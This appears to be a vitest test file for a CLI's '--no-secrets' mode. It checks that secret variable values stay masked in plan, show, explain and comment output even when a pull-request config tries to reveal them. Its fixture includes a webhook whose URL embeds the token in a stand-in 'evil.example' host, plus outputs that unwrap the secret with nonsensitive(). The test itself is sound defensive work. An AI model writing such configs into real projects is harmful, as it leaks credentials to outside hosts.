import { expect, test } from "vitest";
import { type Project, useProjects } from "../project.ts";

const openProject = useProjects();
const TOKEN = "hush-hush-token";
const VALUES = { OUTREACH_VAR_token: TOKEN, OUTREACH_VAR_stage: "production", OUTREACH_VAR_kind: "emailsBounced" };

/** What a pull request could write to see the values of the job's variables. */
const CURIOUS = `version: 1
variables:
  token: {}
  stage: { allowed: [staging, production] }
  kind: { default: emailsSent }
webhooks:
  crm: { target_url: "https://crm.example.com/\${var.stage}/\${nonsensitive(var.token)}" }
  copy: { target_url: "https://\${var.token}.evil.example/" }
  audit: { target_url: https://audit.example.com/, types: ["\${var.kind}"] }
outputs:
  plain: "\${var.token}"
  open: "\${nonsensitive(var.token)}"
  upper: "\${upper(nonsensitive(var.token))}"
  parts: '\${split("-", nonsensitive(var.token))}'
  mixed: { value: '\${[upper(var.token), outreach_webhook.crm.id]}', sensitive: true }
checks:
  curious: { condition: "\${var.token == 1}", message: "It is \${upper(nonsensitive(var.token))}." }
`;

async function curious(): Promise<Project> {
  const project = await openProject();
  project.write("outreach.yaml", CURIOUS);
  Object.assign(project.environment, VALUES);
  return project;
}

test("under --no-secrets, values of OUTREACH_VAR_ are masked whatever the file says, and refuse nothing", async () => {
  const project = await curious();
  const before = await project.run("plan");
  expect(before.out).toContain(TOKEN);
  const commands = [
    "plan --no-secrets --out pull-request.plan",
    "show pull-request.plan",
    "show --format markdown pull-request.plan",
    "show --format html pull-request.plan",
    "show --json pull-request.plan",
    "plan --no-secrets --json",
    "explain --no-secrets outreach_webhook.crm",
    "comment --no-secrets --dry-run",
  ];
  for (const command of commands) {
    const { code, out, err } = await project.run(command);
    expect(code, `${command}\n${err}`).toBe(0);
    for (const text of [out, err, ...Object.values(project.files())])
      for (const value of [TOKEN, TOKEN.toUpperCase(), '"hush"', "production"])
        if (text !== CURIOUS) expect(text, command).not.toContain(value);
  }
  const { out } = await project.run("plan --no-secrets");
  expect(out).toContain("Plan: 3 to add");
  expect(out).toContain("target_url = (sensitive value) (host crm.example.com)");
  expect(out).toContain("(host (sensitive value).evil.example)");
});

test("--var passes what may be shown", async () => {
  const project = await curious();
  const { code, out } = await project.run("plan --no-secrets --var stage=staging --var kind=emailsOpened");
  expect(code).toBe(0);
  expect(out).toContain('outreach_webhook.audit["emailsOpened"] will be created');
  expect(out).not.toContain(TOKEN);
});
